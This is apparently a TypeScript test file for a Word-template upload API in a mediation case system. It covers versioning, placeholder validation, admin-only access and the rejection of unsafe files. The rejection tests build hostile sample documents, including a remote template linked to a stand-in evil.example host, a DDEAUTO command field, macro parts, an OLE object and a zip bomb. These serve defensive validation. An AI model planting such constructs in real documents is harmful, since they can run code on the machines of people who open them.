import { Document, Footer, Header, Packer, Paragraph } from 'docx'
import { extractRawText } from 'mammoth'
import PizZip from 'pizzip'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openCase } from '../cases/index.ts'
import { readConfig } from '../config.ts'
import { createApp } from '../http/index.ts'
import { type TestContext, testActor, testContext } from '../testing/context.ts'
import { documentFile, draftDocument, putTemplate, resetTemplate } from './index.ts'

let ctx: TestContext
let app: ReturnType<typeof createApp>
beforeAll(async () => {
  ctx = await testContext()
  app = createApp({ tray: ctx, peer: () => 'test', ready: () => true })
})
afterAll(() => ctx.close())

const word = async (lines: string[], header?: string) =>
  new Uint8Array(
    await Packer.toBuffer(
      new Document({
        sections: [
          {
            headers: header ? { default: new Header({ children: [new Paragraph(header)] }) } : undefined,
            footers: { default: new Footer({ children: [new Paragraph('页脚')] }) },
            children: lines.map((line) => new Paragraph(line)),
          },
        ],
      }),
    ),
  )
const body = [
  '{title}',
  '{number}',
  '{#sections}',
  '{#heading}{heading}{/heading}',
  '{#lines}',
  '{text}',
  '{/lines}',
  '{/sections}',
  '{#signatures}',
  '{label}',
  '{/signatures}',
  '{date}',
]
const put = async (form: string, bytes: Uint8Array, name = '本局格式.docx', headers: Record<string, string> = {}) => {
  const upload = new FormData()
  upload.set('file', new File([bytes as Uint8Array<ArrayBuffer>], name))
  const response = await app.request(`/api/v1/templates/${form}`, {
    method: 'PUT',
    headers: { host: 'localhost', ...headers },
    body: upload,
  })
  // biome-ignore lint/suspicious/noExplicitAny: a test reads what the service really sent
  return { status: response.status, json: (await response.json()) as any }
}
const get = (path: string) => app.request(`/api/v1/templates${path}`, { headers: { host: 'localhost' } })
const note = async () => {
  const file = await openCase(ctx, { statement: '楼上漏水', parties: [{ role: 'applicant', name: '林秋月' }] })
  return draftDocument(ctx, { caseId: file.id, form: 'note' })
}
const textOf = async (bytes: Uint8Array) => (await extractRawText({ buffer: Buffer.from(bytes) })).value

test('a good template is used from then on, is given back as it came, and gives way to the shipped one again', async () => {
  const document = await note()
  const own = await word(['本局专用格式', '{committee}', ...body], '{mark}')
  const { status, json } = await put('note', own)
  expect([status, json]).toMatchObject([
    200,
    {
      form: 'note',
      origin: 'own',
      version: 1,
      name: '本局格式.docx',
      warnings: [],
      fields: expect.arrayContaining(['text', 'mark']),
    },
  ])
  const printed = await textOf((await documentFile(ctx, document.id, 'docx')).bytes)
  expect(printed).toContain('本局专用格式')
  expect(printed).toContain('缺页情况')
  expect(Buffer.from(await (await get('/note/file')).arrayBuffer()).equals(Buffer.from(own))).toBe(true)
  expect(await (await get('/note')).json()).toMatchObject({ origin: 'own', version: 1, author: '本机管理员' })
  const { items } = (await (await get('')).json()) as { items: { form: string; origin: string }[] }
  expect(items).toHaveLength(18)
  expect(items.filter(({ origin }) => origin === 'own').map(({ form }) => form)).toEqual(['note'])

  expect((await put('note', own, 'x.docx', { 'if-match': '"0"' })).status).toBe(409)
  const reset = await app.request('/api/v1/templates/note', { method: 'DELETE', headers: { host: 'localhost' } })
  expect(await reset.json()).toMatchObject({ origin: 'shipped', version: 2 })
  expect(await textOf((await documentFile(ctx, document.id, 'docx')).bytes)).not.toContain('本局专用格式')
})

test('a draft is marked as one even by a template without a place for the mark, and its lacks are told', async () => {
  const document = await note()
  const { json } = await put(
    'note',
    await word(['{title}', '{#sections}', '{#lines}', '{text}', '{/lines}', '{/sections}']),
  )
  expect(json.warnings.join()).toMatch(/number.*mark.*label/)
  const { bytes } = await documentFile(ctx, document.id, 'docx')
  expect(await textOf(bytes)).toMatch(/^草稿·须调解员确认/)
  await resetTemplate(ctx, { form: 'note' })
})

test.each([
  ['an unknown field', [...body, '{secretField}'], { fields: ['secretField'] }],
  ['an unclosed tag', [...body, '{title'], { fields: ['title'] }],
  ['a loop that is not closed', [...body, '{#rows}'], { fields: ['rows'] }],
  ['a loop that is closed only', [...body, '{/lines}'], { fields: ['lines'] }],
  ['a field out of its place', [...body, '{label}'], { fields: ['label'] }],
])('a template with %s is refused with its name', async (_, lines, details) => {
  const { status, json } = await put('note', await word(lines))
  expect([status, json.error.code]).toEqual([400, 'invalid'])
  expect(json.error.details).toMatchObject(details)
  expect(json.error.message).toContain(details.fields[0])
  expect(await (await get('/note')).json()).toMatchObject({ origin: 'shipped' })
})

const altered = async (change: (zip: PizZip) => void) => {
  const zip = new PizZip(await word(body))
  change(zip)
  return new Uint8Array(zip.generate({ type: 'uint8array', compression: 'DEFLATE' }))
}
const replaced = (path: string, from: string | RegExp, to: string) => (zip: PizZip) =>
  void zip.file(path, zip.file(path)!.asText().replace(from, to))

test.each<[string, () => Promise<Uint8Array>, RegExp]>([
  ['no file at all', async () => new Uint8Array([1, 2, 3]), /不是 Word/],
  ['an old .doc', async () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]), /不是 Word/],
  ['a broken zip', async () => (await word(body)).slice(0, 900), /损坏|不是/],
  [
    'another kind of zip',
    async () => new Uint8Array(new PizZip().file('a.txt', 'x').generate({ type: 'uint8array' })),
    /不是 Word/,
  ],
  [
    'macros by type',
    () =>
      altered(
        replaced(
          '[Content_Types].xml',
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
      ),
    /宏/,
  ],
  ['macros by part', () => altered((zip) => void zip.file('word/vbaProject.bin', 'x')), /宏/],
  ['an embedded object', () => altered((zip) => void zip.file('word/embeddings/oleObject1.bin', 'x')), /对象/],
  [
    'a template fetched from elsewhere',
    () =>
      altered(
        replaced(
          'word/_rels/document.xml.rels',
          '</Relationships>',
          '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>',
        ),
      ),
    /外部/,
  ],
  [
    'a field that fetches',
    () =>
      altered(
        replaced(
          'word/document.xml',
          '<w:body>',
          '<w:body><w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>',
        ),
      ),
    /外部/,
  ],
  ['too large', async () => new Uint8Array(2 * 1024 * 1024 + 1).fill(0x50), /2MB/],
  ['a bomb', () => altered((zip) => void zip.file('word/media/zero.bin', new Uint8Array(41 * 1024 * 1024))), /过大/],
])('what is no plain Word file is refused, whatever it is called: %s', async (_, file, message) => {
  const { status, json } = await put('note', await file())
  expect([status, json.error.code]).toEqual([400, 'invalid'])
  expect(json.error.message).toMatch(message)
})

test('an unknown form, no file, two files and a form of words are refused', async () => {
  expect((await put('poem', await word(body))).status).toBe(404)
  expect((await get('/poem')).status).toBe(404)
  const empty = await app.request('/api/v1/templates/note', { method: 'PUT', headers: { host: 'localhost' } })
  expect(empty.status).toBe(400)
  const raw = await app.request('/api/v1/templates/note', {
    method: 'PUT',
    headers: { host: 'localhost', 'content-type': 'application/octet-stream' },
    body: (await word(body)) as Uint8Array<ArrayBuffer>,
  })
  expect([raw.status, ((await raw.json()) as { origin: string }).origin]).toEqual([200, 'own'])
  await resetTemplate(ctx, { form: 'note' })
})

test('only an admin replaces a template; staff may look, a citizen may not', async () => {
  const bytes = await word(body)
  for (const role of ['mediator', 'lawyer', 'supervisor', 'citizen'] as const)
    await expect(
      putTemplate({ ...ctx, actor: testActor(role) }, { form: 'note', name: 'x.docx', bytes }),
    ).rejects.toMatchObject({ code: 'forbidden' })
  const guarded = createApp({
    tray: { ...ctx, config: readConfig({ ADMIN_API_KEY: 'a-long-admin-key' }) },
    peer: () => 'test',
    ready: () => true,
  })
  for (const [method, path] of [
    ['GET', ''],
    ['GET', '/note'],
    ['GET', '/note/file'],
    ['PUT', '/note'],
    ['DELETE', '/note'],
  ] as const)
    expect([path, (await guarded.request(`/api/v1/templates${path}`, { method })).status]).toEqual([path, 403])
})
